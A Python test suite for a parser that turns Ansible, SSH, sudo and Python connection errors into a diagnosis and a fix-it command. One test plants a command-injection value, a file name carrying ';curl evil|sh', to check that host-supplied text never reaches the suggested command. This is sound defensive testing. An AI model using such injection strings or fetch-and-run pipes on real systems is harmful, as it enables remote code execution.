"""Why a host can't be read: messages of Ansible, SSH, sudo and Python, told apart, with the command to run."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from minimax_metal.common.redact import Redactor
from minimax_metal.plan.connection import trouble_in, trouble_of
from minimax_metal.plan.connection_rules import RULES

CHANGED = """Failed to connect to the host via ssh: @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
Someone could be eavesdropping on you right now (man-in-the-middle attack)!
It is also possible that a host key has just been changed.
The fingerprint for the ED25519 key sent by the remote host is
SHA256:2RRFpE9bdlv/7p6pdlNkbBsWkqEcCqzXGvYHvJFQMX0.
Please contact your system administrator.
Add correct host key in /home/ops/.ssh/known_hosts to get rid of this message.
Offending ECDSA key in /home/ops/.ssh/known_hosts:12
Password authentication is disabled to avoid man-in-the-middle attacks.
Keyboard-interactive authentication is disabled to avoid man-in-the-middle attacks.
ops@gpu01: Permission denied (publickey,password)."""

OPEN_KEY = """Failed to connect to the host via ssh: @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@         WARNING: UNPROTECTED PRIVATE KEY FILE!          @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
Permissions 0644 for '/home/ops/.ssh/fleet' are too open.
It is required that your private key files are NOT accessible by others.
This private key will be ignored.
Load key "/home/ops/.ssh/fleet": bad permissions
ops@gpu01: Permission denied (publickey)."""

# (what was said, code, words of the finding, words of the remedy); the report or source is named.
CASES = [
    # ansible/ansible#13077 and plugins/connection/ssh.py: sudo asked, and no password was given
    ("Missing sudo password", "sudo-password", "needs a password", "--ask-become-pass"),
    # plugins/become/sudo.py `missing`
    ("sudo: a password is required\n", "sudo-password", "needs a password", "NOPASSWD"),
    # sudo 1.9 src/tgetpass.c
    ("sudo: a terminal is required to read the password; either use the -S option to read from standard input "
     "or configure an askpass helper\nsudo: a password is required", "sudo-password", "needs a password", "-K"),
    # sudo 1.8 (Debian 10): src/tgetpass.c
    ("sudo: no tty present and no askpass program specified", "sudo-password", "needs a password", "-K"),
    # sudo-rs 0.2 (Ubuntu 25.10)
    ("sudo: interactive authentication is required", "sudo-password", "needs a password", "-K"),
    # plugins/connection/ssh.py
    ("Incorrect sudo password", "sudo-password", "wrong password", "again"),
    ("Sorry, try again.\nsudo: no password was provided\nsudo: 1 incorrect password attempt", "sudo-password",
     "wrong password", "ansible_become_password"),
    ("Incorrect su password", "sudo-password", "wrong password", "again"),
    # sudo plugins/sudoers/logging.c
    ("ops is not in the sudoers file.\nThis incident has been reported to the administrator.", "sudo-denied",
     "ops", "usermod -aG sudo ops"),
    ("Sorry, user deploy is not allowed to execute '/bin/sh -c echo BECOME-SUCCESS' as root on gpu01.",
     "sudo-denied", "deploy", "usermod -aG sudo deploy"),
    ("Sorry, user deploy may not run sudo on gpu01.", "sudo-denied", "deploy", "usermod"),
    # RHEL's old default (requiretty): sudo plugins/sudoers
    ("sudo: sorry, you must have a tty to run sudo", "sudo-tty", "requiretty", "!requiretty"),
    # ansible/ansible#14426, #25961: plugins/connection/ssh.py
    ("Timeout (12s) waiting for privilege escalation prompt: ", "sudo-timeout", "12 s", "time sudo -n true"),
    ("Timeout (32s) waiting for privilege escalation prompt: [sudo via ansible, key=abc] password:",
     "sudo-timeout", "32 s", "--timeout"),
    ("/bin/sh: 1: sudo: not found", "sudo-missing", "no sudo", "apt-get install sudo"),
    ("sudo: /usr/bin/sudo must be owned by uid 0 and have the setuid bit set", "sudo-broken", "broken", "visudo"),
    ("sudo: Account or password is expired, reset your password and try again", "sudo-account", "expired", "chage"),
    # OpenSSH sshconnect.c
    (CHANGED, "ssh-host-key", "known_hosts line 12",
     "ssh-keygen -f /home/ops/.ssh/known_hosts -R gpu01"),
    ("Host key for gpu01 has changed and you have requested strict checking.", "ssh-host-key", "gpu01",
     "ssh-keygen -R gpu01"),
    (CHANGED + "\nHost key for [bastion.example]:2222 has changed and you have requested strict checking.\n"
     "Host key verification failed.", "ssh-host-key", "bastion.example",
     "ssh-keygen -f /home/ops/.ssh/known_hosts -R bastion.example"),
    ("Failed to connect to the host via ssh: Host key verification failed.", "ssh-host-key", "nobody has confirmed",
     "ssh-keyscan -H gpu01"),
    ("No ED25519 host key is known for gpu07 and you have requested strict checking.\r\n"
     "Host key verification failed.", "ssh-host-key", "gpu07", "ssh-keyscan -H gpu07"),
    # plugins/connection/ssh.py
    ("Using a SSH password instead of a key is not possible because Host Key checking is enabled and sshpass does "
     "not support this.  Please add this host's fingerprint to your known_hosts file to manage this host.",
     "ssh-host-key", "confirmed", "ssh-keyscan"),
    ("Unable to negotiate with 10.0.0.9 port 22: no matching host key type found. Their offer: ssh-rsa,ssh-dss",
     "ssh-host-key", "ssh-rsa,ssh-dss", "HostKeyAlgorithms"),
    ("ops@gpu01: Permission denied (publickey,password).", "ssh-login", "as ops", "ssh-copy-id ops@gpu01"),
    ("Failed to connect to the host via ssh: root@10.1.2.3: Permission denied (publickey).", "ssh-login",
     "accepts publickey", "ssh-copy-id root@10.1.2.3"),
    ("Invalid/incorrect password: Permission denied, please try again.", "ssh-login", "wrong", "--ask-pass"),
    ("Received disconnect from 10.0.0.9 port 22:2: Too many authentication failures\n"
     "Disconnected from 10.0.0.9 port 22", "ssh-login", "more keys", "IdentitiesOnly=yes"),
    (OPEN_KEY, "ssh-login", "/home/ops/.ssh/fleet", "chmod 600 /home/ops/.ssh/fleet"),
    # cloud images: ~root/.ssh/authorized_keys of cloud-init
    ('Please login as the user "ubuntu" rather than the user "root".', "ssh-login", "root", "ansible_user: ubuntu"),
    ("This account is currently not available.", "ssh-login", "login shell", "chsh"),
    ("WARNING: Your password has expired.\nPassword change required but no TTY available.", "ssh-login",
     "expired", "chage"),
    ("Load key \"/home/ops/.ssh/id_rsa\": error in libcrypto\nops@gpu01: Permission denied (publickey).",
     "ssh-login", "/home/ops/.ssh/id_rsa", "ssh-keygen -y -f /home/ops/.ssh/id_rsa"),
    ("no such identity: /home/ops/.ssh/gone: No such file or directory\nops@gpu01: Permission denied (publickey).",
     "ssh-login", "/home/ops/.ssh/gone", "ansible_ssh_private_key_file"),
    ("sign_and_send_pubkey: signing failed for ED25519 \"k\" from agent: agent refused operation\n"
     "ops@gpu01: Permission denied (publickey).", "ssh-login", "agent", "ssh-add"),
    # plugins/connection/ssh.py
    ("to use the 'ssh' connection type with passwords or pkcs11_provider, you must install the sshpass program",
     "controller-sshpass", "sshpass", "apt-get install sshpass"),
    # ansible/ansible#11536, #16840
    ('unix_listener: "/home/a.very.long.user/.ansible/cp/ansible-ssh-ec2-203-0-113-7.compute.example-22-ubuntu'
     '.XXXXXXXXXXXXXXXX" too long for Unix domain socket', "controller-control-path", "too long",
     "ANSIBLE_SSH_CONTROL_PATH_DIR"),
    ("Cannot write to ControlPath /home/ops/.ansible/cp", "controller-control-path", "/home/ops/.ansible/cp", "chown"),
    # cli/__init__.py
    ("ERROR: Ansible requires the locale encoding to be UTF-8; Detected ISO8859-1.", "controller-locale",
     "ISO8859-1", "LC_ALL=C.UTF-8"),
    ("ERROR: Ansible could not initialize the preferred locale: unsupported locale setting", "controller-locale",
     "locale", "LC_ALL=C.UTF-8"),
    # a host without Python: its shell's words, and those of plugins/action/__init__.py
    ("/bin/sh: 1: /usr/bin/python3: not found\n", "python-missing", "/usr/bin/python3", "apt-get install python3"),
    ("The module interpreter '/opt/py/bin/python3.11' was not found.", "python-missing", "/opt/py/bin/python3.11",
     "ansible_python_interpreter"),
    ("/bin/sh: /usr/bin/python: No such file or directory", "python-missing", "/usr/bin/python", "python3"),
    ("python3= sudo=/usr/bin/sudo uid=1000", "python-missing", "no Python 3", "python3"),
    # module_utils/basic.py
    ("ansible-core requires a minimum of Python version 3.8. Current version: 3.6.9 (default, Mar 10 2023)",
     "python-old", "Python 3.6.9", "ansible_python_interpreter"),
    ("Traceback (most recent call last):\n  File \"<stdin>\", line 12, in <module>\n  File \"/tmp/ansible_x.zip/ansible"
     "/module_utils/basic.py\", line 5\nSyntaxError: future feature annotations is not defined", "python-old",
     "too old", "ansible_python_interpreter"),
    # ansible/ansible#81946: Python 3.12 and Ansible before 2.13
    ("ModuleNotFoundError: No module named 'ansible.module_utils.six.moves'", "python-broken", "newer", "make setup"),
    ("ModuleNotFoundError: No module named 'zipfile'", "python-broken", "zipfile", "--reinstall python3"),
    # plugins/action/__init__.py
    ("Failed to create temporary directory. In some cases, you may have been able to authenticate and did not have "
     "permissions on the target directory. Consider changing the remote tmp path in ansible.cfg to a path rooted in "
     '"/tmp", for more error information use -vvv. Failed command was: ( umask 77 && mkdir -p "` echo ~/.ansible/tmp `" ),'
     " exited with result 1, stderr output: mkdir: cannot create directory '/home/ops/.ansible': Permission denied",
     "host-tmp", "/home/ops/.ansible", "ansible_remote_tmp"),
    ("mkdir: cannot create directory ‘/root/.ansible/tmp’: No space left on device", "host-disk", "/root/.ansible/tmp",
     "df -h"),
    ("mkdir: cannot create directory '/home/ops/.ansible/tmp/x': Read-only file system", "host-disk", "read-only", "dmesg"),
    ("/bin/sh: 1: /tmp/ansible-tmp-1700000000.1-2-3/AnsiballZ_metal_facts.py: Permission denied", "host-tmp", "noexec",
     "ansible_remote_tmp"),
    ("ImportError: /tmp/_MEI/_ctypes.so: failed to map segment from shared object", "host-tmp", "noexec", "remount"),
    # OpenSSH: the network
    ("ssh: connect to host 10.0.0.5 port 22: Connection timed out", "unreachable", "timed out", "nc -vz 10.0.0.5 22"),
    ("ssh: connect to host gpu01 port 2222: Operation timed out", "unreachable", "port 2222", "nc -vz gpu01 2222"),
    ("ssh: connect to host 10.0.0.5 port 22: No route to host", "unreachable", "No route to host", "ip route get"),
    ("ssh: connect to host fe80::1%eth0 port 22: Network is unreachable", "unreachable", "Network is unreachable", "VPN"),
    ("ssh: connect to host gpu01 port 22: Connection refused", "unreachable", "connection refused", "systemctl start ssh"),
    ("ssh: Could not resolve hostname gpu99: Name or service not known", "unreachable", "gpu99", "ansible_host"),
    ("ssh: Could not resolve hostname gpu99: Temporary failure in name resolution", "unreachable", "name server",
     "resolv.conf"),
    ("Connection timed out during banner exchange\nConnection to 10.0.0.5 port 22 timed out", "unreachable",
     "sends nothing", "console"),
    ("kex_exchange_identification: read: Connection reset by peer\nConnection reset by 10.0.0.5 port 22",
     "unreachable", "before login", "MaxStartups"),
    ("\"System is booting up. Unprivileged users are not permitted to log in yet. Please come back later.\"",
     "unreachable", "booting", "wait"),
    ("kex_exchange_identification: banner line contains invalid characters\nbanner exchange: Connection to 10.0.0.5 "
     "port 8000: invalid format", "unreachable", "something other than SSH", "ansible_port"),
    # OpenSSH: jump hosts
    ("channel 0: open failed: connect failed: No route to host\nstdio forwarding failed\nkex_exchange_identification: "
     "Connection closed by remote host\nConnection closed by UNKNOWN port 65535", "ssh-proxy", "No route to host",
     "log in to the jump host"),
    ("channel 0: open failed: administratively prohibited: open failed\nstdio forwarding failed\nConnection closed by "
     "UNKNOWN port 65535", "ssh-proxy", "forwards no", "AllowTcpForwarding"),
    ("ssh: Could not resolve hostname bastion: Name or service not known\nkex_exchange_identification: Connection "
     "closed by remote host\nConnection closed by UNKNOWN port 65535", "ssh-proxy", "bastion", "ProxyJump"),
    ("ssh: connect to host 203.0.113.9 port 22: Connection refused\nConnection closed by UNKNOWN port 65535", "ssh-proxy",
     "203.0.113.9", "ssh 203.0.113.9"),
    ("/bin/bash: line 1: exec: nc: not found\nkex_exchange_identification: Connection closed by remote host\nConnection "
     "closed by UNKNOWN port 65535", "ssh-proxy", "nc", "ProxyCommand"),
    ("jump@bastion: Permission denied (publickey).\nkex_exchange_identification: Connection closed by remote host\n"
     "Connection closed by UNKNOWN port 65535", "ssh-login", "jump", "ssh-copy-id jump@bastion"),
    # parsing/vault/__init__.py
    ("Attempting to decrypt but no vault secrets found.", "vault-password", "no vault password",
     "ANSIBLE_VAULT_PASSWORD_FILE"),
    ("Decryption failed (no vault secrets were found that could decrypt).", "vault-password", "does not open",
     "--vault-password-file"),
    ("The vault password file /etc/fleet/pw was not found", "vault-password", "/etc/fleet/pw", "fix the path"),
    ("couldn't resolve module/action 'metal_facts'. This often indicates a misspelling", "controller-module", "modules",
     "ANSIBLE_CONFIG"),
    ("[sudo] password for ops: ", "sudo-password", "needs a password", "-K"),
    (">>> /etc/sudoers.d/x: syntax error near line 1 <<<", "sudo-broken", "broken", "visudo -c"),
    # LemmyNet/lemmy-ansible#15: sudo speaks the host's language
    ("sudo: es requereix una contrasenya\r\n", "sudo-failed", "es requereix una contrasenya", "-K"),
    ("sudo: Ein Passwort ist notwendig", "sudo-failed", "Ein Passwort ist notwendig", "-K"),
    ("Enter passphrase for key '/home/ops/.ssh/id_rsa': ", "ssh-login", "/home/ops/.ssh/id_rsa", "ssh-add /home/ops/.ssh/id_rsa"),
    ("ops@gpu01's password: ", "ssh-login", "asks ops", "--ask-pass"),
    ("Access denied for user ops by PAM account configuration [preauth]", "ssh-login", "PAM", "AllowUsers"),
    ("No user exists for uid 1000", "controller-user", "/etc/passwd", "uid"),
    ("input is not vault encrypted data", "vault-password", "damaged", "encrypt_string"),
    ("The vault password file /a b/pw was not found", "vault-password", "/a b/pw", "fix the path"),
    # another release's wording
    ("Ansible requires Python 3.8 or newer on the target. Current version: 3.6.8 (default)", "python-old", "Python 3.6.8", "newer"),
    ("ssh: connect to host bastion port 22: Connection timed out\nkex_exchange_identification: Connection closed by "
     "remote host", "ssh-proxy", "bastion", "ssh bastion"),
    ("ssh: connect to host gpu01 port 22: Resource temporarily unavailable", "unreachable", "Resource", "ssh -v gpu01"),
    ("Received message too long 1298753390", "host-output", "prints something", ".bashrc"),
]  # fmt: skip


@pytest.mark.parametrize(("said", "code", "found", "remedy"), CASES, ids=lambda one: str(one)[:40])
def test_each_cause_is_told_apart(said: str, code: str, found: str, remedy: str) -> None:
    trouble = trouble_in(said, host="gpu01", unreachable=True)
    assert trouble.code == code, trouble
    assert found in trouble.found
    assert remedy in trouble.remedy
    assert "\n" not in trouble.line()
    assert "check its address" not in trouble.line()
    # What is to be typed passes the masking of secrets as it is.
    line = trouble.refusal().line("gpu01")
    assert Redactor().text(line) == line


FIELD: list[dict[str, Any]] = yaml.safe_load(
    (Path(__file__).parent / "data" / "connection.yml").read_text(encoding="utf-8")
)


@pytest.mark.parametrize("case", FIELD, ids=[str(case["said"])[:50] for case in FIELD])
def test_more_of_what_hosts_say_is_told_apart(case: dict[str, Any]) -> None:
    trouble = trouble_in(case["said"], host="gpu01", user="ops", unreachable="via ssh" in case["said"])
    assert trouble.code == case["code"], trouble.line()
    assert case["source"]
    for words in case["words"]:
        assert words in trouble.line()
    for default in ("{", "(it)", "(it;", "FILE", "HOST"):  # what a message does not say leaves no hole
        assert default not in trouble.line().replace("FILE-cert.pub", "").replace("ID@FILE", "").replace(
            "--vault-password-file FILE", ""
        ).replace("ANSIBLE_VAULT_PASSWORD_FILE", "").replace("view FILE", ""), trouble.line()


@pytest.mark.parametrize("noise", [
    "debug1: identity file /home/ops/.ssh/id_rsa type -1\ndebug1: key_load_public: No such file or directory\n",
    "Warning: Permanently added 'gpu01' (ED25519) to the list of known hosts.\n",
    "\x1b[1;31m", "** WARNING: connection is not using a post-quantum key exchange algorithm.\n",
])  # fmt: skip
def test_what_stands_around_a_message_changes_nothing(noise: str) -> None:
    for said, code, _, _ in CASES:
        assert trouble_in(noise + said + "\nShared connection to gpu01 closed.\n").code == code, said


def test_parts_of_a_result_are_read_together() -> None:
    answer: dict[str, Any] = {
        "msg": "MODULE FAILURE\nSee stdout/stderr for the exact error", "rc": 127, "module_stdout": "",
        "module_stderr": "/bin/sh: 1: /usr/bin/python3: not found\n",
    }  # fmt: skip
    assert trouble_of(answer).code == "python-missing"
    assert trouble_of({"unreachable": True, "msg": CHANGED}).away
    assert not trouble_of({"msg": "Missing sudo password"}).away
    # What is no text is no reason, and no traceback either.
    assert trouble_of({"msg": {"a": 1}, "stdout": 7, "stderr": None}).code == "host-unread"


def test_a_message_that_nobody_knows_is_shown_in_its_own_words() -> None:
    one = trouble_in(
        "Failed to connect to the host via ssh: a dragon sleeps on the cable\n", unreachable=True
    )
    assert one.code == "unreachable"
    assert "a dragon sleeps on the cable" in one.found
    assert "ssh -v" in one.remedy
    other = trouble_in("MODULE FAILURE\nSee stdout/stderr for the exact error\nodd thing 17")
    assert (other.code, "odd thing 17" in other.found) == ("host-unread", True)
    assert "no reason" in trouble_in("").found


def test_no_command_to_type_carries_what_a_host_made_up() -> None:
    said = (
        "Permissions 0644 for '/tmp/x;curl evil|sh' are too open.\nevil;id@h: Permission denied (publickey)."
    )
    remedy = trouble_in(said, host="gpu01").remedy
    assert ";" not in remedy.replace("; ", " ")
    assert "curl" not in remedy


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([
    "Permission denied (", "sudo: ", "Host key for [", "Offending key in /", "a" * 3000, "/" * 2000, "python3: ", "\n",
    "ansiballz_", "connect to host ", "AnsiballZ ", "UNPROTECTED PRIVATE KEY FILE", "' is not ", " " * 1000, ": ", "@",
]), max_size=60))  # fmt: skip
def test_reading_takes_no_time(parts: list[str]) -> None:
    began = time.process_time()
    trouble_in("".join(parts) * 3)
    assert time.process_time() - began < 2.0


def test_every_rule_says_what_was_found_needed_and_to_be_done() -> None:
    for rule in RULES:
        assert rule.found, rule
        assert rule.needed, rule
        assert rule.remedy, rule
